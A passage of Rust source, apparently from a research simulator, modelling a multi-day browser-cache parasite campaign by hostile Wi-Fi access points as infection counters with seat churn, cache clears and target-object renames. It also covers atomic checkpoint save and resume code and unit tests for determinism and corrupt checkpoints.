            events: json.get("events").and_then(Json::as_u64)?,
        })
    }
}

// ---------------------------------------------------------------------------
// Campaign state
// ---------------------------------------------------------------------------

/// Fleet-wide counters accumulated across all days (they feed the merged
/// [`CampaignFleetResult`]).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct Cumulative {
    total_events: u64,
    payload_bytes: u64,
    injected_events: u64,
    pending_bytes_dropped: u64,
    failed_aps: usize,
}

/// The full resumable state of a multi-day campaign after `day` completed
/// days. Everything a checkpoint must carry: per-day RNG streams are derived
/// from the campaign seed, never from carried RNG state.
struct CampaignState {
    /// Completed days.
    day: u32,
    /// Per-seat infection state.
    infected: Vec<bool>,
    /// The target object under Figure 3 churn.
    target: ChurningObject,
    /// Per-day statistics so far.
    day_stats: Vec<DayStats>,
    /// Fleet-wide counters so far.
    cumulative: Cumulative,
}

impl CampaignState {
    /// Day-zero state: everyone clean, the target object fresh.
    fn fresh(config: &RunConfig) -> CampaignState {
        CampaignState {
            day: 0,
            infected: vec![false; config.fleet_clients],
            target: ChurningObject::new(
                "/my.js",
                StabilityClass::SlowChurn,
                mix_seed(config.seed, TARGET_TAG),
            ),
            day_stats: Vec::new(),
            cumulative: Cumulative::default(),
        }
    }
}

// ---------------------------------------------------------------------------
// The day loop
// ---------------------------------------------------------------------------

/// Runs a multi-day churn campaign, optionally checkpointing after every
/// completed day. Called from the registry runner (`fleet_days > 1`, no
/// checkpoint) and from [`run_campaign_with_checkpoint`].
pub(super) fn run_multiday(
    config: &RunConfig,
    ctx: &RunCtx,
    checkpoint: Option<&Path>,
) -> Result<CampaignFleetResult, ExperimentError> {
    if !(0.0..=1.0).contains(&config.fleet_churn) {
        return Err(ExperimentError::Config(format!(
            "fleet_churn must be a fraction in [0, 1], got {}",
            config.fleet_churn
        )));
    }
    if !(0.0..=1.0).contains(&config.fleet_visit_prob) {
        return Err(ExperimentError::Config(format!(
            "fleet_visit_prob must be a probability in [0, 1], got {}",
            config.fleet_visit_prob
        )));
    }
    // Surface an overpacked fleet before day one instead of inside a worker.
    plan_ap_tasks(config, config.seed, config.fleet_clients)?;

    let days = config.fleet_days.max(1);
    let mut state = match checkpoint {
        Some(path) if path.exists() => load_checkpoint(path, config)?,
        _ => CampaignState::fresh(config),
    };
    let shared = ctx.budget_for(config);
    // Per-seat visit probabilities are a pure function of the campaign seed,
    // so a resumed run recomputes the same habits it checkpointed under.
    let visit_probs = seat_visit_probs(config);

    // Replay checkpoint-restored days through the sink so a streaming
    // watcher always sees the complete day series, resumed or not.
    if let Some(sink) = &ctx.day_sink {
        for day in &state.day_stats {
            sink.emit(day);
        }
    }

    while state.day < days {
        // Cooperative cancellation lands exactly on a day boundary: the
        // checkpoint written after the last completed day stays valid, so a
        // cancelled campaign resumes byte-identically.
        if ctx.cancel.is_cancelled() {
            return Err(ExperimentError::Cancelled { completed_days: state.day });
        }
        let day = state.day + 1;
        run_day(config, &mut state, day, shared.as_ref(), visit_probs.as_deref())?;
        if let Some(path) = checkpoint {
            write_checkpoint(path, config, &state)?;
        }
        if let Some(sink) = &ctx.day_sink {
            sink.emit(state.day_stats.last().expect("day just completed"));
        }
    }

    let infected_clients = state.infected.iter().filter(|&&i| i).count();
    Ok(CampaignFleetResult {
        shards: config.fleet_shards.max(1).min(config.fleet_aps.max(1)),
        aps: config.fleet_aps.max(1),
        clients: config.fleet_clients,
        infected_clients,
        clean_clients: config.fleet_clients - infected_clients,
        failed_aps: state.cumulative.failed_aps,
        total_events: state.cumulative.total_events,
        payload_bytes: state.cumulative.payload_bytes,
        injected_events: state.cumulative.injected_events,
        pending_bytes_dropped: state.cumulative.pending_bytes_dropped,
        day_stats: state.day_stats,
    })
}

/// Draws the per-seat daily-visit probabilities, or `None` at the default
/// `fleet_visit_prob = 1.0` (every clean seat browses every day — the
/// classic trajectory, byte-identical to pre-visit-model campaigns).
///
/// `fleet_visit_prob` is the *typical* (modal) habit; individual seats
/// spread around it with a seeded [`Dist::Triangular`] draw in per-mille
/// resolution — lo at half the mode, hi at 1.5× capped at certainty — so
/// regulars and rare visitors coexist. The draw composes with
/// `--fleet-hetero` (per-AP profiles) because the streams are disjoint:
/// seats own *whether* they show up, APs own *how* the race plays out.
fn seat_visit_probs(config: &RunConfig) -> Option<Vec<f64>> {
    if config.fleet_visit_prob >= 1.0 {
        return None;
    }
    let mut rng = StdRng::seed_from_u64(mix_seed(config.seed, VISIT_TAG));
    let mode = (config.fleet_visit_prob * 1_000.0).round() as u64;
    let dist = Dist::Triangular {
        lo: mode / 2,
        mode,
        hi: (mode + mode / 2).min(1_000),
    };
    Some(
        (0..config.fleet_clients)
            .map(|_| dist.sample(&mut rng) as f64 / 1_000.0)
            .collect(),
    )
}

/// One AP's slice of a day's exposure sweep: the planned AP task plus the
/// start offset of its clients within the day's exposed-seat list.
struct DayApTask {
    task: super::campaign::ApTask,
    start: usize,
}

/// Advances the campaign by one day: object churn, seat churn, cache clears,
/// then the packet-level exposure sweep for every clean seat.
fn run_day(
    config: &RunConfig,
    state: &mut CampaignState,
    day: u32,
    shared: Option<&SharedBudget>,
    visit_probs: Option<&[f64]>,
) -> Result<(), ExperimentError> {
    let day_seed = mix_seed(config.seed, DAY_TAG ^ day as u64);
    let mut rng = StdRng::seed_from_u64(day_seed);

    // 1. Figure 3 object churn: the target object's site may rename it,
    //    which breaks every parasite riding on the old cache key. The master
    //    only discovers the rotation on its next crawl, so today's races are
    //    armed with the *stale* object and miss; re-infection resumes
    //    tomorrow — the collapse-and-recover dynamics of Figure 3.
    let renames_before = state.target.renames;
    state.target.advance_day(&mut rng);
    let object_rotated = state.target.renames != renames_before;
    let mut rotation_cured = 0usize;
    if object_rotated {
        for seat in state.infected.iter_mut() {
            if *seat {
                *seat = false;
                rotation_cured += 1;
            }
        }
    }

    // 2. Seat churn: a `fleet_churn` fraction of occupants departs (taking
    //    their cache with them) and is replaced by fresh clean arrivals.
    let mut departures = 0usize;
    if config.fleet_churn > 0.0 {
        for seat in state.infected.iter_mut() {
            if rng.gen_bool(config.fleet_churn) {
                departures += 1;
                *seat = false;
            }
        }
    }

    // 3. Cache clears: the only refresh that removes the parasite
    //    (Table III), done by a small share of infected residents daily.
    let mut cache_clears = 0usize;
    for seat in state.infected.iter_mut() {
        if *seat && rng.gen_bool(DAILY_CACHE_CLEAR) {
            *seat = false;
            cache_clears += 1;
        }
    }

    // 4. Exposure: every clean seat that visits today browses through the
    //    hostile AP and goes through the injection race. Under the visit
    //    model each clean seat first rolls its personal daily-visit habit
    //    (one draw per clean seat, in seat order, from the day stream);
    //    infected seats serve from cache and draw nothing — persistence
    //    costs neither packets nor randomness.
    let exposed_seats: Vec<u32> = state
        .infected
        .iter()
        .enumerate()
        .filter(|(seat, &infected)| {
            !infected && visit_probs.is_none_or(|probs| rng.gen_bool(probs[*seat]))
        })
        .map(|(seat, _)| seat as u32)
        .collect();
    let exposed = exposed_seats.len();

    let tasks = plan_ap_tasks(config, day_seed, exposed)?;
    let aps = tasks.len();
    let mut day_tasks = Vec::with_capacity(aps);
    let mut start = 0usize;
    for task in tasks {
        let clients = task.clients;
        day_tasks.push(DayApTask { task, start });
        start += clients;
    }

    let jobs = fleet_jobs(config, aps);
    let outcomes = parallel_tasks(&day_tasks, jobs, |day_task| {
        // A seat keeps its browsing habit across days: the unprepared-object
        // trait is pinned to the campaign seat, not to today's local index.
        // On a rotation day every request is effectively "unprepared" — the
        // master's forged response still carries the stale object name, so
        // no race lands until it re-crawls overnight.
        let unprepared = |local: usize| {
            object_rotated
                || requests_unprepared_object(exposed_seats[day_task.start + local] as usize)
        };
        simulate_ap_with(&day_task.task, config, shared, &unprepared, true)
    });

    let mut newly_infected = 0usize;
    let mut failed_aps = 0usize;
    let mut events = 0u64;
    for (outcome, day_task) in outcomes.into_iter().zip(&day_tasks) {
        match outcome {
            Ok(ap) => {
                newly_infected += ap.infected;
                events += ap.events;
                state.cumulative.payload_bytes += ap.payload_bytes;
                state.cumulative.injected_events += ap.injected_events;
                state.cumulative.pending_bytes_dropped += ap.pending_bytes_dropped;
                for (local, &got_parasite) in ap.infected_flags.iter().enumerate() {
                    if got_parasite {
                        state.infected[exposed_seats[day_task.start + local] as usize] = true;
                    }
                }
            }
            // A failed AP leaves its exposed seats clean; they are raced
            // again tomorrow.
            Err(_) => failed_aps += 1,
        }
    }
    state.cumulative.total_events += events;
    state.cumulative.failed_aps += failed_aps;

    if failed_aps == aps && exposed > 0 {
        return Err(ExperimentError::Net(NetError::EventBudgetExhausted {
            budget: shared.map(SharedBudget::total).unwrap_or(config.event_budget),
        }));
    }
    if let Some(shared) = shared {
        // A drained global pool means part of today's fleet starved: fail the
        // campaign with the typed error instead of limping on silently.
        if failed_aps > 0 && shared.exhausted() {
            return Err(ExperimentError::Net(NetError::EventBudgetExhausted {
                budget: shared.total(),
            }));
        }
    }

    let infected = state.infected.iter().filter(|&&seat| seat).count();
    state.day = day;
    state.day_stats.push(DayStats {
        day,
        departures,
        arrivals: departures,
        cache_clears,
        object_rotated,
        rotation_cured,
        exposed,
        newly_infected,
        failed_aps,
        infected,
        clean: state.infected.len() - infected,
        events,
    });
    Ok(())
}

// ---------------------------------------------------------------------------
// Checkpoint codec
// ---------------------------------------------------------------------------

/// Runs a multi-day campaign with per-day checkpointing: after every
/// completed day the full campaign state is written to `checkpoint`
/// (atomically: temp file + rename), and a run finding an existing
/// checkpoint resumes from it — killing an N-day campaign after day *k* and
/// rerunning with the same configuration yields a byte-identical final
/// artifact.
///
/// This entry point *always* runs the churn model, even at `fleet_days = 1`
/// (one churn day is not the classic single-snapshot sweep: it draws from
/// the per-day seed streams and the target object may rotate). The
/// `paper-report` CLI therefore requires `--fleet-days >= 2` with
/// `--fleet-checkpoint`.
///
/// The checkpoint is a compact hand-rolled JSON document (`parasite::json`):
/// the campaign configuration fingerprint, the completed-day count, the
/// Figure 3 target-object state, the per-seat infection bitmap (hex-encoded
/// 64-seat words) and the day-by-day statistics. A checkpoint written under
/// a different configuration is rejected with
/// [`ExperimentError::Checkpoint`].
pub fn run_campaign_with_checkpoint(
    config: &RunConfig,
    checkpoint: &Path,
) -> Result<CampaignFleetResult, ExperimentError> {
    let ctx = RunCtx::for_sweep(std::slice::from_ref(config));
    run_campaign_with_checkpoint_ctx(config, checkpoint, &ctx)
}

/// [`run_campaign_with_checkpoint`] with a caller-supplied execution
/// context: the campaign service daemon routes its shared budget, the
/// per-run cancel token and the per-day streaming sink through here. A
/// cancelled run returns [`ExperimentError::Cancelled`] at the next day
/// boundary, leaving the checkpoint of the last completed day on disk —
/// resubmitting the same config against that checkpoint resumes
/// byte-identically.
pub fn run_campaign_with_checkpoint_ctx(
    config: &RunConfig,
    checkpoint: &Path,
    ctx: &RunCtx,
) -> Result<CampaignFleetResult, ExperimentError> {
    run_multiday(config, ctx, Some(checkpoint))
}

/// The configuration fields a checkpoint pins. Anything that changes the
/// campaign's deterministic trajectory must appear here — and *nothing*
/// else: pure scheduling hints (`fleet_jobs`, `fleet_shards`) and fields
/// other experiments own (`scale`, `sites`, the surface axes, …) are
/// deliberately excluded, so a campaign can resume under a different
/// `--jobs`/`--fleet-shards` and still produce byte-identical output
/// (pinned by `resume_accepts_different_scheduling_hints`).
fn config_fingerprint(config: &RunConfig) -> Json {
    Json::obj([
        ("seed", config.seed.to_json()),
        ("fleet_clients", config.fleet_clients.to_json()),
        ("fleet_aps", config.fleet_aps.to_json()),
        ("fleet_days", config.fleet_days.to_json()),
        ("fleet_churn", config.fleet_churn.to_json()),
        ("fleet_hetero", config.fleet_hetero.to_json()),
        ("fleet_visit_prob", config.fleet_visit_prob.to_json()),
        ("jitter_us", config.jitter_us.to_json()),
        ("event_budget", config.event_budget.to_json()),
    ])
}

/// Hex-encodes the seat bitmap as 64-seat words.
fn encode_bitmap(infected: &[bool]) -> Json {
    let words = infected.chunks(64).map(|chunk| {
        let mut word = 0u64;
        for (bit, &seat) in chunk.iter().enumerate() {
            if seat {
                word |= 1 << bit;
            }
        }
        Json::Str(format!("{word:016x}"))
    });
    Json::Arr(words.collect())
}

/// Decodes [`encode_bitmap`] output back into `seats` booleans.
fn decode_bitmap(json: &Json, seats: usize) -> Option<Vec<bool>> {
    let words = json.as_array()?;
    if words.len() != seats.div_ceil(64) {
        return None;
    }
    let mut infected = Vec::with_capacity(seats);
    for word in words {
        let word = u64::from_str_radix(word.as_str()?, 16).ok()?;
        for bit in 0..64 {
            if infected.len() == seats {
                // Bits beyond the population must be zero padding.
                if word >> bit != 0 {
                    return None;
                }
                break;
            }
            infected.push(word & (1 << bit) != 0);
        }
    }
    (infected.len() == seats).then_some(infected)
}

/// Serialises the resumable campaign state.
fn checkpoint_json(config: &RunConfig, state: &CampaignState) -> Json {
    Json::obj([
        ("version", CHECKPOINT_VERSION.to_json()),
        ("kind", "mp-campaign-checkpoint".to_json()),
        ("config", config_fingerprint(config)),
        ("completed_days", state.day.to_json()),
        (
            "target",
            Json::obj([
                ("day", state.target.day.to_json()),
                ("renames", state.target.renames.to_json()),
                ("content_changes", state.target.content_changes.to_json()),
                ("current_path", state.target.current_path.to_json()),
                ("current_hash", Json::Str(format!("{:016x}", state.target.current_hash))),
            ]),
        ),
        ("infected", encode_bitmap(&state.infected)),
        (
            "cumulative",
            Json::obj([
                ("total_events", state.cumulative.total_events.to_json()),
                ("payload_bytes", state.cumulative.payload_bytes.to_json()),
                ("injected_events", state.cumulative.injected_events.to_json()),
                (
                    "pending_bytes_dropped",
                    state.cumulative.pending_bytes_dropped.to_json(),
                ),
                ("failed_aps", state.cumulative.failed_aps.to_json()),
            ]),
        ),
        ("days", state.day_stats.to_json()),
    ])
}

/// Writes the checkpoint atomically (temp file in the same directory, then
/// rename), so a kill mid-write leaves the previous day's checkpoint intact.
///
/// The temp name carries the pid and a process-wide counter: two writers
/// pointed at the same checkpoint path (concurrent runs, or shard workers of
/// a future parallel day loop) must not scribble into one shared temp file —
/// with a fixed `.tmp` suffix, writer A's rename could publish writer B's
/// half-written document. Unique temp names keep every rename atomic and
/// whole-file.
fn write_checkpoint(
    path: &Path,
    config: &RunConfig,
    state: &CampaignState,
) -> Result<(), ExperimentError> {
    static WRITER: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
    let document = checkpoint_json(config, state).to_string();
    let mut temp = path.to_path_buf();
    let mut name = path.file_name().unwrap_or_default().to_os_string();
    name.push(format!(
        ".tmp.{}.{}",
        std::process::id(),
        WRITER.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
    ));
    temp.set_file_name(name);
    std::fs::write(&temp, document)
        .and_then(|()| std::fs::rename(&temp, path))
        .map_err(|error| {
            // Leave no orphan behind if the rename (not the write) failed.
            let _ = std::fs::remove_file(&temp);
            ExperimentError::Checkpoint(format!("writing {} failed: {error}", path.display()))
        })
}

/// Loads and validates a checkpoint written by [`write_checkpoint`].
fn load_checkpoint(path: &Path, config: &RunConfig) -> Result<CampaignState, ExperimentError> {
    let corrupt = || {
        ExperimentError::Checkpoint(format!(
            "{} is not a valid campaign checkpoint",
            path.display()
        ))
    };
    let text = std::fs::read_to_string(path).map_err(|error| {
        ExperimentError::Checkpoint(format!("reading {} failed: {error}", path.display()))
    })?;
    let json = Json::parse(&text).map_err(|_| corrupt())?;
    if json.get("kind").and_then(Json::as_str) != Some("mp-campaign-checkpoint")
        || json.get("version").and_then(Json::as_u64) != Some(CHECKPOINT_VERSION)
    {
        return Err(corrupt());
    }
    let fingerprint = config_fingerprint(config);
    if json.get("config") != Some(&fingerprint) {
        return Err(ExperimentError::Checkpoint(format!(
            "{} was written under a different campaign configuration; \
             delete it or rerun with the original flags",
            path.display()
        )));
    }

    let day = json.get("completed_days").and_then(Json::as_u64).ok_or_else(corrupt)? as u32;
    let infected = json
        .get("infected")
        .and_then(|bitmap| decode_bitmap(bitmap, config.fleet_clients))
        .ok_or_else(corrupt)?;

    let target_json = json.get("target").ok_or_else(corrupt)?;
    let mut target = CampaignState::fresh(config).target;
    target.day = target_json.get("day").and_then(Json::as_u64).ok_or_else(corrupt)? as u32;
    target.renames = target_json.get("renames").and_then(Json::as_u64).ok_or_else(corrupt)? as u32;
    target.content_changes = target_json
        .get("content_changes")
        .and_then(Json::as_u64)
        .ok_or_else(corrupt)? as u32;
    target.current_path = target_json
        .get("current_path")
        .and_then(Json::as_str)
        .ok_or_else(corrupt)?
        .to_string();
    target.current_hash = target_json
        .get("current_hash")
        .and_then(Json::as_str)
        .and_then(|hex| u64::from_str_radix(hex, 16).ok())
        .ok_or_else(corrupt)?;

    let cumulative_json = json.get("cumulative").ok_or_else(corrupt)?;
    let cumulative = Cumulative {
        total_events: cumulative_json.get("total_events").and_then(Json::as_u64).ok_or_else(corrupt)?,
        payload_bytes: cumulative_json.get("payload_bytes").and_then(Json::as_u64).ok_or_else(corrupt)?,
        injected_events: cumulative_json
            .get("injected_events")
            .and_then(Json::as_u64)
            .ok_or_else(corrupt)?,
        pending_bytes_dropped: cumulative_json
            .get("pending_bytes_dropped")
            .and_then(Json::as_u64)
            .ok_or_else(corrupt)?,
        failed_aps: cumulative_json
            .get("failed_aps")
            .and_then(Json::as_u64)
            .ok_or_else(corrupt)? as usize,
    };

    let day_stats = json
        .get("days")
        .and_then(Json::as_array)
        .ok_or_else(corrupt)?
        .iter()
        .map(DayStats::from_json)
        .collect::<Option<Vec<DayStats>>>()
        .ok_or_else(corrupt)?;
    if day_stats.len() != day as usize {
        return Err(corrupt());
    }

    Ok(CampaignState {
        day,
        infected,
        target,
        day_stats,
        cumulative,
    })
}

#[cfg(test)]
mod tests {
    use super::super::{CancelToken, DaySink, ExperimentId, Registry, RunConfig};
    use super::*;

    fn churn_config() -> RunConfig {
        RunConfig {
            seed: 7,
            fleet_clients: 400,
            fleet_aps: 4,
            fleet_days: 5,
            fleet_churn: 0.2,
            fleet_jobs: 1,
            ..RunConfig::default()
        }
    }

    #[test]
    fn multiday_campaign_carries_infections_forward() {
        let artifact = Registry::get(ExperimentId::CampaignFleet).run(&churn_config());
        let result = artifact.data.as_campaign_fleet().expect("campaign artifact");
        assert_eq!(result.day_stats.len(), 5);
        assert_eq!(result.clients, 400);
        // Day one exposes the whole (clean) population.
        assert_eq!(result.day_stats[0].exposed, 400);
        // Later days only race the clean remainder: persistence costs no
        // packets, so exposure shrinks once most seats are infected.
        assert!(result.day_stats[1].exposed < 400);
        for day in &result.day_stats {
            assert_eq!(day.infected + day.clean, 400);
            assert_eq!(day.arrivals, day.departures);
        }
        // The final population matches the last day's snapshot.
        let last = result.day_stats.last().expect("five days");
        assert_eq!(result.infected_clients, last.infected);
        assert_eq!(result.clean_clients, last.clean);
        // The day table renders and the JSON carries the day series.
        assert!(artifact.render_text().contains("day-by-day churn dynamics"));
        assert!(artifact.to_json().to_string().contains("\"days\""));
    }

    #[test]
    fn multiday_campaign_is_deterministic_and_shard_independent() {
        let config = churn_config();
        let first = Registry::get(ExperimentId::CampaignFleet).run(&config);
        let second = Registry::get(ExperimentId::CampaignFleet).run(&config);
        assert_eq!(first, second);
        // Day-boundary barriers make fleet_shards a scheduling hint for the
        // multi-day loop: every number in the artifact is identical across
        // shard counts (only the reported `shards` field echoes the request).
        let sharded = Registry::get(ExperimentId::CampaignFleet)
            .run(&RunConfig { fleet_shards: 4, ..config });
        let (a, b) = (
            first.data.as_campaign_fleet().expect("campaign artifact"),
            sharded.data.as_campaign_fleet().expect("campaign artifact"),
        );
        assert_eq!(b.shards, 4);
        assert_eq!(a.day_stats, b.day_stats);
        assert_eq!(a.infected_clients, b.infected_clients);
        assert_eq!(a.total_events, b.total_events);
    }

    #[test]
    fn heterogeneous_multiday_campaign_runs_deterministically() {
        let hetero = RunConfig { fleet_hetero: true, ..churn_config() };
        let first = Registry::get(ExperimentId::CampaignFleet).run(&hetero);
        let drawn = first.data.as_campaign_fleet().expect("campaign artifact");
        // Heterogeneity redistributes clients and can flip race outcomes,
        // but conservation still holds and the attack still lands somewhere.
        assert_eq!(drawn.infected_clients + drawn.clean_clients, 400);
        assert!(drawn.infected_clients > 0);
        assert_eq!(drawn.day_stats.len(), 5);
        // Deterministic per seed, byte for byte.
        let again = Registry::get(ExperimentId::CampaignFleet).run(&hetero);
        assert_eq!(first, again);
        assert_eq!(first.to_json().to_string(), again.to_json().to_string());
    }

    #[test]
    fn invalid_churn_fraction_is_a_config_error() {
        let config = RunConfig { fleet_churn: 1.5, ..churn_config() };
        match Registry::get(ExperimentId::CampaignFleet).try_run(&config) {
            Err(ExperimentError::Config(message)) => assert!(message.contains("fleet_churn")),
            other => panic!("expected a config error, got {other:?}"),
        }
    }

    #[test]
    fn bitmap_round_trips_and_rejects_bad_padding() {
        let seats: Vec<bool> = (0..130).map(|i| i % 3 == 0).collect();
        let encoded = encode_bitmap(&seats);
        assert_eq!(decode_bitmap(&encoded, 130), Some(seats.clone()));
        // Wrong population size: word count no longer matches.
        assert_eq!(decode_bitmap(&encoded, 64), None);
        // Set a padding bit beyond the population: rejected.
        let mut words: Vec<Json> = encoded.as_array().expect("array").to_vec();
        words[2] = Json::Str(format!("{:016x}", u64::MAX));
        assert_eq!(decode_bitmap(&Json::Arr(words), 130), None);
    }

    #[test]
    fn checkpoint_kill_and_resume_is_byte_identical() {
        let dir = std::env::temp_dir().join(format!(
            "mp-checkpoint-test-{}-{}",
            std::process::id(),
            "resume"
        ));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("campaign.ckpt.json");
        let _ = std::fs::remove_file(&path);

        let config = churn_config();
        // The uninterrupted reference.
        let reference = run_campaign_with_checkpoint(&config, &path).expect("reference run");
        // "Kill after day 2": run only two days, leaving the checkpoint.
        let _ = std::fs::remove_file(&path);
        let partial = RunConfig { fleet_days: 2, ..config };
        let two_days = run_campaign_with_checkpoint(&partial, &path).expect("partial run");
        assert_eq!(two_days.day_stats.len(), 2);
        // Resuming under the full configuration must not accept the partial
        // run's checkpoint (different fleet_days fingerprint)...
        match run_campaign_with_checkpoint(&config, &path) {
            Err(ExperimentError::Checkpoint(message)) => {
                assert!(message.contains("different campaign configuration"));
            }
            other => panic!("expected a checkpoint mismatch, got {other:?}"),
        }

        // ...so simulate the real kill: run the full config, snapshot the
        // checkpoint after day 2, then resume from that snapshot.
        let _ = std::fs::remove_file(&path);
        let full = run_campaign_with_checkpoint(&config, &path).expect("full run");
        assert_eq!(full, reference);
        // Rewind the checkpoint to day 2 by re-running the day loop fresh and
        // capturing the intermediate file.
        let _ = std::fs::remove_file(&path);
        let snapshot_path = dir.join("campaign.day2.json");
        {
            // Write a day-2 snapshot by running two days under the *full*
            // fingerprint: drive run_multiday directly with an early horizon.
            let mut state = CampaignState::fresh(&config);
            for day in 1..=2 {
                run_day(&config, &mut state, day, None, None).expect("day runs");
            }
            write_checkpoint(&snapshot_path, &config, &state).expect("snapshot written");
        }
        std::fs::rename(&snapshot_path, &path).expect("install snapshot");
        let resumed = run_campaign_with_checkpoint(&config, &path).expect("resumed run");
        assert_eq!(resumed, reference, "resume must be byte-identical");
        assert_eq!(
            resumed.to_json().to_string(),
            reference.to_json().to_string(),
            "down to the JSON wire form"
        );

        // A checkpoint at the horizon resumes to the same result without
        // re-running any day.
        let finished = run_campaign_with_checkpoint(&config, &path).expect("finished resume");
        assert_eq!(finished, reference);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn resume_accepts_different_scheduling_hints() {
        // fleet_jobs and fleet_shards are pure scheduling hints — the
        // fingerprint must not pin them, so a checkpoint written under
        // `--jobs 1` resumes under a thread pool and different shard counts
        // with byte-identical output.
        let dir = std::env::temp_dir().join(format!(
            "mp-checkpoint-test-{}-hints",
            std::process::id()
        ));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("campaign.ckpt.json");
        let _ = std::fs::remove_file(&path);

        let config = churn_config();
        let reference = run_campaign_with_checkpoint(&config, &path).expect("reference run");

        // Snapshot day 2 under the single-threaded config...
        let mut state = CampaignState::fresh(&config);
        for day in 1..=2 {
            run_day(&config, &mut state, day, None, None).expect("day runs");
        }
        write_checkpoint(&path, &config, &state).expect("snapshot written");

        // ...and resume under different jobs/shards. Only the echoed
        // `shards` field may differ from the reference.
        let hinted = RunConfig { fleet_jobs: 4, fleet_shards: 2, ..config };
        let resumed = run_campaign_with_checkpoint(&hinted, &path).expect("hinted resume");
        assert_eq!(resumed.shards, 2);
        let normalized = CampaignFleetResult { shards: reference.shards, ..resumed };
        assert_eq!(normalized, reference, "scheduling hints must not change the trajectory");
        assert_eq!(
            normalized.to_json().to_string(),
            reference.to_json().to_string(),
            "down to the JSON wire form"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn concurrent_checkpoint_writers_do_not_collide() {
        // Two writers pointed at the same path race; unique temp names keep
        // every rename whole-file, so the survivor is always one writer's
        // complete document — never an interleaving — and no temp files leak.
        let dir = std::env::temp_dir().join(format!(
            "mp-checkpoint-test-{}-writers",
            std::process::id()
        ));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("campaign.ckpt.json");
        let _ = std::fs::remove_file(&path);

        let config = churn_config();
        let mut one_day = CampaignState::fresh(&config);
        run_day(&config, &mut one_day, 1, None, None).expect("day runs");
        let mut two_days = CampaignState::fresh(&config);
        for day in 1..=2 {
            run_day(&config, &mut two_days, day, None, None).expect("day runs");
        }

        std::thread::scope(|scope| {
            for _ in 0..4 {
                for state in [&one_day, &two_days] {
                    scope.spawn(|| {
                        for _ in 0..8 {
                            write_checkpoint(&path, &config, state).expect("write succeeds");
                        }
                    });
                }
            }
        });

        // The surviving file is a valid, complete checkpoint of one of the
        // two states.
        let resumed = load_checkpoint(&path, &config).expect("valid checkpoint survives");
        assert!(resumed.day == 1 || resumed.day == 2);
        let expected = if resumed.day == 1 { &one_day } else { &two_days };
        assert_eq!(resumed.infected, expected.infected);
        assert_eq!(resumed.day_stats, expected.day_stats);
        // No orphaned temp files remain.
        let leftovers: Vec<_> = std::fs::read_dir(&dir)
            .expect("dir listing")
            .filter_map(|entry| entry.ok())
            .filter(|entry| entry.file_name().to_string_lossy().contains(".tmp"))
            .collect();
        assert!(leftovers.is_empty(), "temp files leaked: {leftovers:?}");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn corrupt_checkpoints_are_typed_errors() {
        let dir = std::env::temp_dir().join(format!("mp-checkpoint-test-{}-bad", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("bad.ckpt.json");
        std::fs::write(&path, "{\"kind\": \"something else\"}").expect("write");
        match run_campaign_with_checkpoint(&churn_config(), &path) {
            Err(ExperimentError::Checkpoint(message)) => {
                assert!(message.contains("not a valid campaign checkpoint"));
            }
            other => panic!("expected a checkpoint error, got {other:?}"),
        }
        std::fs::write(&path, "not json at all").expect("write");
        assert!(matches!(
            run_campaign_with_checkpoint(&churn_config(), &path),
            Err(ExperimentError::Checkpoint(_))
        ));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn visit_probability_is_deterministic_and_reduces_exposure() {
        let config = RunConfig { fleet_visit_prob: 0.4, ..churn_config() };
        let first = Registry::get(ExperimentId::CampaignFleet).run(&config);
        let second = Registry::get(ExperimentId::CampaignFleet).run(&config);
        assert_eq!(first, second);
        assert_eq!(first.to_json().to_string(), second.to_json().to_string());

        // With a ~40% daily habit, day one races only the visiting subset —
        // strictly fewer than the whole clean population, but not nobody.
        let partial = first.data.as_campaign_fleet().expect("campaign artifact");
        let full = Registry::get(ExperimentId::CampaignFleet).run(&churn_config());
        let everyone = full.data.as_campaign_fleet().expect("campaign artifact");
        assert_eq!(everyone.day_stats[0].exposed, 400);
        assert!(partial.day_stats[0].exposed < 400);
        assert!(partial.day_stats[0].exposed > 0);

        // The draw composes with per-AP heterogeneity deterministically:
        // the streams are disjoint, so turning hetero on does not reshuffle
        // anything except through the simulated races themselves.
        let hetero = RunConfig { fleet_hetero: true, ..config };
        let drawn = Registry::get(ExperimentId::CampaignFleet).run(&hetero);
        assert_eq!(drawn, Registry::get(ExperimentId::CampaignFleet).run(&hetero));

        // An explicit 1.0 is the classic trajectory, byte for byte.
        let certain = RunConfig { fleet_visit_prob: 1.0, ..churn_config() };
        let classic = Registry::get(ExperimentId::CampaignFleet).run(&certain);
        assert_eq!(classic.to_json().to_string(), full.to_json().to_string());
    }

    #[test]
    fn invalid_visit_probability_is_a_config_error() {
        for bad in [1.5, -0.1] {
            let config = RunConfig { fleet_visit_prob: bad, ..churn_config() };
            match Registry::get(ExperimentId::CampaignFleet).try_run(&config) {
                Err(ExperimentError::Config(message)) => {
                    assert!(message.contains("fleet_visit_prob"));
                }
                other => panic!("expected a config error, got {other:?}"),
            }
        }
    }

    #[test]
    fn cancelled_campaign_resumes_byte_identically() {
        // Cancel lands on a day boundary and leaves the last completed day's
        // checkpoint; resubmitting the same config resumes to an artifact
        // byte-identical to the uninterrupted reference run.
        let dir = std::env::temp_dir().join(format!(
            "mp-checkpoint-test-{}-cancel",
            std::process::id()
        ));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let reference_path = dir.join("reference.ckpt.json");
        let path = dir.join("cancelled.ckpt.json");
        let _ = std::fs::remove_file(&reference_path);
        let _ = std::fs::remove_file(&path);

        let config = churn_config();
        let reference =
            run_campaign_with_checkpoint(&config, &reference_path).expect("reference run");

        // Cancel from inside the day sink after day 2 completes: the request
        // is observed at the top of the day-3 iteration.
        let cancel = CancelToken::new();
        let trigger = cancel.clone();
        let ctx = RunCtx {
            day_sink: Some(DaySink::new(move |stats| {
                if stats.day == 2 {
                    trigger.cancel();
                }
            })),
            cancel: cancel.clone(),
            ..RunCtx::default()
        };
